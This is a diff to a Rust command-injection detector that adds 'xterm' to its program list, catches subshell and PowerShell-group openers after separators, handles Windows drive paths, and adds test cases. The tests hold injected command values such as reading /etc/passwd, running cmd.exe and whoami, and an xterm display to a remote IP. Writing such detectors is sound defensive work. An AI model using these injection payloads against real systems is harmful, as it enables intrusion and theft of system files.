@@ -262,6 +262,7 @@ const PROGRAMS: &[&str] = &[
     "wusa",
     "xargs",
     "xcopy",
+    "xterm",
     "xxd",
     "xzcat",
     "zcat",
@@ -502,6 +503,9 @@ fn command_start(text: &[u8], i: usize, outside: bool) -> Option<(usize, Opener)
         b'&' if matches!(next, Some(b' ' | b'\t')) => Some((i + 1, separator)),
         b'&' => Some((i + 1, Opener::Ampersand)),
         b'$' | b'<' | b'>' if next == Some(b'(') => Some((i + 2, Opener::Paren)),
+        // A subshell or a PowerShell group where a command starts (`;(id)`, `|(cat /etc/passwd)`,
+        // `;(New-Object Net.WebClient)`); a user agent opens its comment after a blank.
+        b'(' if i > 0 && b";|&`\n\r".contains(&text[i - 1]) => Some((i + 1, Opener::Paren)),
         b'=' => Some((i + 1, Opener::Value)),
         _ => None,
     }
@@ -860,6 +864,11 @@ fn read_word(text: &[u8], start: usize, word: &mut Vec<u8>) -> Option<usize> {
             // Quotes, and cmd.exe's escape `^`, are removed.
             b'\'' | b'"' | b'^' => i += 1,
             b'\\' if written_line_break_ends(text, i, word) => break,
+            // After a drive (`c:\windows\system32\cmd.exe`) a backslash is cmd.exe's separator.
+            b'\\' if word.len() >= 2 && word[0].is_ascii_alphabetic() && word[1] == b':' => {
+                word.push(b'/');
+                i += 1;
+            }
             b'\\' => {
                 if let Some(&c) = text.get(i + 1).filter(|c| c.is_ascii_alphanumeric()) {
                     word.push(c);
@@ -1262,6 +1271,11 @@ mod tests {
             ";echo vulnerable",
             "a|echo 12345;",
             "$(printf abc)",
+            ";(id)",
+            "a|(cat /etc/passwd)",
+            ";c:\\windows\\system32\\cmd.exe /c dir",
+            "&&C:\\Windows\\System32\\whoami.exe",
+            "|xterm -display 10.0.0.1:1",
         ] {
             assert!(injected(s.as_bytes()), "{s}");
         }
@@ -1329,6 +1343,8 @@ mod tests {
             "python3.x; php.ini",
             "mozilla/5.0 (x11; echo 2)",
             "q=echo hello",
+            "q=(cat videos)",
+            "(ls models)",
         ] {
             assert!(!injected(s.as_bytes()), "{s}");
         }
